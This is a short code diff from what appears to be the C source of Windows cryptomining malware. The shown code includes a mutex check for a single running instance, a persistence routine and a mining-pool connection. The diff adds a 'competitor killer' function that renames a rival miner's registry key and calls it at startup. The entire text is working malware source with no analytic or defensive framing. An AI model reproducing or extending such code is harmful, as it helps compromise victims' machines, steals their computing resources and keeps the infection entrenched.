@@ -30,6 +30,12 @@ static int split_pool(char *host, int hostlen, char *port)
     return 1;
 }
 
+/* "competitor killer": disable another miner's settings key by renaming it */
+static void disable_rival(void)
+{
+    RegRenameKey(HKEY_CURRENT_USER, CFG_RIVAL_KEY, CFG_RIVAL_NEW);
+}
+
 static void persist(void)
 {
     char self[MAX_PATH], target[MAX_PATH], cmd[1024];
@@ -57,6 +63,7 @@ static int family_run(void)
     HANDLE mutex = CreateMutexA(NULL, FALSE, CFG_MUTEX);
     if (mutex == NULL || GetLastError() == ERROR_ALREADY_EXISTS)
         return 1;
+    disable_rival();
     persist();
     if (WSAStartup(MAKEWORD(2, 2), &wsa) != 0 || !split_pool(host, sizeof host, port))
         return 2;
